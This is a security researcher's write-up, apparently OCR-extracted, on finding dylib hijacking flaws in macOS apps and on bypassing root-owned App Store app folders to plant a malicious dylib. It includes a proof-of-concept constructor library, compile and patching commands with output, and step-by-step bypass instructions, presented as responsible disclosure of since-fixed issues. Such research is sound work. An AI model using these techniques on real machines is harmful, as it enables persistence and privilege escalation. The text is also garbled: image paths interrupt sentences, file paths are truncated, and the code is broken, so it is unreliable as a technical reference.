This writeup is intended to be a bit of storytelling. I would like to show how I went down the rabbit hole in a quick ’research’ I wanted to do, and eventually found a localprivilege escalation vulnerability in macOS. I also want to show, tell about all the obstacles and failures I run into, stuff that people don’t talk about usually, but I feel it’s part of the process all of us go through, when we try to create something.

If you prefer to watch this as a talk, you can se it here: Csaba Fitzl - macOS: Gaining root with Harmless AppStore Apps - SecurityFest 2019 -YouTube

Slides are here: Getting root with benign app store apps

DYLIB Hijacking on macOS Link to heading

This entire story started with me trying to find dylib hijacking vulnerability in a specific application, which I can’t name here. Well, I didn’t find any in that app, but found plenty in many others.

If you are not familiar with dylib hijacking on macOS, read Patrick Wardle’s great writeup: Virus Bulletin :: Dylib hijacking on OSX or watch his talk on the subject: DEF CON 23 - Patrick Wardle - DLL Hijacking on OS X - YouTubeI would go for the talk, as he is a great presenter, and will explain the subject in a very user friendly way, so you will understand all the details.

But just to sum it up here, in very short, there are 2 type of dylib hijackings possible:

  1. weak loading of dylibs - in this case the OS will use the LC_LOAD_WEAK_DYLIB function, and if the dylib is not found the application will still run and won’t error out. So if there is an app that refers to a dylib with this method and that is not present, you can go ahead place yours there and profit.2. rpath (run-path dependent) dylibs - in this case the dylibs are referenced with the @rpath prefix, which will point to the current running location of the mach-o file, and will try to find the dylibs based on this search path. It’s useful if you don’t know where your app will end up after installation. Developers can specify multiple search paths, and in case the first or first couple doesn’t exists, you can place your malicious dylib there, as the loader will search through these paths in sequential order. In its logic this is similar to classic DLL hijacking on Windows.

Finding vulnerable apps Link to heading

It couldn’t be easier, you go download Patrick’s DHS tool, run the scan and wait. Link: Objective-See There is also a command line version: GitHub - synack/DylibHijack: python utilities related to dylib hijacking on OS X

  1. For the walkthrough I will use the Tresorit app as an example as they already fixed the problem, and big kudos for them, as they not only responded but also fixed this in a couple of days after reporting. I will not mention all of the apps here, but you will be amazed how many are out there.


The vulnerability is with Tresorit’s FinderExtension:


And you can place your dylib here:

rpath vulnerability: /Applications/

DHS will only show you the first hijackable dylib, but there can be more. Set the DYLD_PRINT_RPATHS variable to 1 in Terminal, and you will see which dylibs the loader tries to load. You can see below that we canhijack two dylibs.

$ export DYLD_PRINT_RPATHS="1"
$ /Applications/
RPATH failed to expanding     @rpath/UtilsMac.framework/Versions/A/UtilsMac to: /Applications/
RPATH successful expansion of @rpath/UtilsMac.framework/Versions/A/UtilsMac to: /Applications/
RPATH failed to expanding     @rpath/MMWormhole.framework/Versions/A/MMWormhole to: /Applications/
RPATH successful expansion of @rpath/MMWormhole.framework/Versions/A/MMWormhole to: /Applications/
Illegal instruction: 4

Additionally it’s a good idea to double check if the App is compiled with the library-validation option (flag=0x200). That would mean that the OS will verify if all dylibs are signed or not, so you can’t just create anything and use that. Most of the apps are not compiled this way, including Tresorit (but they promised to fix it):

$ codesign -dvvv /Applications/Format=bundle with Mach-O thin (x86_64)
CodeDirectory v=20200 size=754 flags=0x0(none) hashes=15+5 location=embedded

Utilizing the vulnerability Link to heading

It’s also something that is super easy based on the talk above, but here it is in short. I made the following POC:

#include <stdio.h>
#include <stdlib.h>
#include <syslog.h>

void customConstructor(int argc, const char **argv)
     printf("Hello World!\n");
     syslog(LOG_ERR, "Dylib hijack successful in %s\n", argv[0]);

The constructor will be called upon loading the dylib. It will print you a line, create a syslog entry, and also start Terminal for you. If the app doesn’t run in sandbox you get a full featured Terminal. Compile it:

gcc -dynamiclib hello.c -o hello-tresorit.dylib -Wl,-reexport_library,"/Applications/"

Then run Patrick’s fixer script. It will fix the dylib version for you (the dylib loader will verify that when loading) and also will add all the exports that are exported by the original dylib. Those exports will actually point to the valid dylib, so when the application loads our crafted version, it can still use all the functions and won’t crash.

python2 hello-tresorit.dylib "/Applications/"
configures an attacker supplied .dylib to be compatible with a target hijackable .dylib[+] configuring hello-tresorit.dylib to hijack UtilsMac
 [+] parsing 'UtilsMac' to extract version info
     found 'LC_ID_DYLIB' load command at offset(s): [2568]
     extracted current version: 0x10000
     extracted compatibility version: 0x10000
 [+] parsing 'hello-tresorit.dylib' to find version info
     found 'LC_ID_DYLIB' load command at offset(s): [888]
 [+] updating version info in hello-tresorit.dylib to match UtilsMac
     setting version info at offset 888
 [+] parsing 'hello-tresorit.dylib' to extract faux re-export info
     found 'LC_REEXPORT_DYLIB' load command at offset(s): [1144]
     extracted LC command size: 0x48
     extracted path offset: 0x18
     computed path size: 0x30
     extracted faux path: @rpath/UtilsMac.framework/Versions/A/UtilsMac
 [+] updating embedded re-export via exec'ing: /usr/bin/install_name_tool -change
 [+] copyingconfigured .dylib to /Users/csaby/Downloads/DylibHijack/UtilsMac

Once that is done, you can just copy the file over and start the app.

Other apps Link to heading

Considering the amount of vulnerable apps, I didn’t even take the time to report all these issues, only a few. Beside Tresorit I reported one to Avira, and they promised a fix but with low priority as you had to get root for utilising this, and the others were in MS Office 2016, where MS said they don’t consider this as a security bug as you need root privileges to exploit it, they said I can submit as a product bug. I don’t agree, cause this is a way for persistence, but I suppose I have to live with it.

The privilege problem Link to headingMy original ‘research’ was done, but this is the point where I went beyond what I expected in the beginning.

There is a problem in case of many apps, in theory you just need to drop your dylib into the right place, but there can be a two main scenarios in terms of privileges required for utilising the vulnerability.

  1. The application folder is owned by your account (in reality everyone is admin on his Mac so I won’t deal with standard users here) - in that case you can go and drop your files easily
  2. The application folder is owned by root, so you need root privileges in order to perform the attack. Honestly this kinda makes it less interesting, cause if you can get root, you can do much better persistence elsewhere and the app will typically run in sandbox and under the user’s privileges, so you won’t get too much out of it. It’s still a problem but makes it less interesting.

Typically applications you drag and drop to the /Application directory will fall into the first category. All applications from the App Store will fall into the 2nd category, it’s because they will be installed by the installd daemon which is running as root . Apps that you install from a package will typically also fall into the 2nd category, as typically those require elevation of privilege.

I wasn’t quite happy with all vendor responses, and also didn’t like that exploitation islimited to root most of the times, so I started to think: Can we bypass root folder permissions? Spoiler: YES, otherwise this would be a very short post. :)

Tools for monitoring Link to heading

Before moving on, I want to mention a couple of tools, that I found useful for event monitoring.

FireEye - Link to heading

This is a procmon like app created by FireEye, it can be downloaded from here: | Free Security Software | FireEye It’s quite good!


Objective-See’s ProcInfo library & ProcInfoExample Link to heading

This is an open source library for monitoring process creation and termination on macOS. I used the demo project of this library, called ProcInfoExample. It’s a command line utility and will log every process creation, with all the related details, like arguments, signature info, etc… It will give you more information than FE’s Monitor app. It’s output is like:

2019-03-11 21:18:05.770 procInfoExample[32903:4117446] process start:
pid: 32906
path: /System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/efw_cache_update
user: 0
args: (
ancestors: (
 signing info: {signatureAuthorities =     (
        "Software Signing",
        "Apple Code Signing Certification Authority",
        "Apple Root CA"
    signatureIdentifier = "";
    signatureSigner = 1;
    signatureStatus = 0;
name: efw_cache_update
path: /System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/efw_cache_update
attributes: {
    NSFileCreationDate = "2018-11-30 07:31:32 +0000";
    NSFileExtensionHidden = 0;
    NSFileGroupOwnerAccountID = 0;
    NSFileGroupOwnerAccountName = wheel;
    NSFileHFSCreatorCode = 0;
    NSFileHFSTypeCode = 0;
    NSFileModificationDate = "2018-11-30 07:31:32 +0000";
    NSFileOwnerAccountID = 0;
    NSFileOwnerAccountName = root;
    NSFilePosixPermissions = 493;
    NSFileReferenceCount = 1;
    NSFileSize = 43040;
    NSFileSystemFileNumber = 4214431;
    NSFileSystemNumber = 16777220;
    NSFileType = NSFileTypeRegular;
signing info: (null)

Built-in fs_usage utility Link to heading

The fs_usage utility can monitor file system event very detailed, I would say even too detailed, you need to do some good filtering if you want to get useful data out of it. You get something like this:

(standard input):21:27:01.229709  getxattr               [ 93]           /Applications/                                                                                                                                              0.000017   lsd.4123091
(standard input):21:27:01.229719  access                       (___F)    /Applications/                                                                                                                                     0.000005   lsd.4123091
(standard input):21:27:01.229819  fstatat64[-2]//Applications/                                                                                                                                         0.000013   lsd.4123091
(standard input):21:27:01.229927  getattrlist                            /Applications/                                                                                                                                              0.000006   lsd.4123091
(standard input):21:27:01.229933  getattrlist                            /Applications/                                                                                                                                     0.000006   lsd.4123091
(standard input):21:27:01.229939  getattrlist/Applications/                                                                                                                               0.000005   lsd.4123091
(standard input):21:27:01.229945  getattrlist                            /Applications/                                                                                                                        0.000005   lsd.4123091
(standard input):21:27:01.229957  getattrlist                            /Applications/                                                                                                                                              0.000005   lsd.4123091

Bypassing root folder permissions in App Store installed apps Link to heading

The goal here is to write any file inside an AppStore installed application, which is by default only accessible for root. The bypass will only work if the application was installed already at least once (since when you buy it, you need to authenticate to the AppStore even if it’s free or if the user checked in ‘Save Password’ for free apps, you can get those as well. What I ‘noticed’ first is that you can create folders in the “/Applications” folder - obviously asyou can also drag and drop apps there. But what happens if I create folders for the to-be-installed app? Here is what happens and the steps to bypass the root folder permissions:

  1. Before you delete the app take a note of the folder structure - you have read access to that. This is just for knowing what to recreate later.
  2. Start Launchpad locate the app, and delete it if installed currently. Interestingly it will remove the application, although you interact with Launchpad as normal user. Note that it can only do that for apps installed from the App Store.
  3. Create the folder structure with your regular ID in the /Applications folder, you can do that without root access. It’s enough to create the folders you need, no need for all, and place your dylib (or whatever you want) there
  4. Go back to the AppStore and on the Purchased tab, locate the app, and install it. You don’t need to authenticate in this case. You can also use the command line utility available from Github: GitHub - mas-cli/mas: Mac App Store command line interface

At this point the app will be installed and you can use it, and you have your files there, which you couldn’t place there originally without root permissions.

This wasfixed in Mojave 10.14.5, I will talk about that later.

To compare, it’s like having write access to the “Program Files” folder on Windows. Admin users do have it, but only if they run as HIGH integrity, so that means you need to bypass UAC from the default MEDIUM integrity mode. But in Windows, MEDIUM integrity Admin to HIGH integrity Admin elevation is not a security boundary, but in macOS admin to root is a boundary.

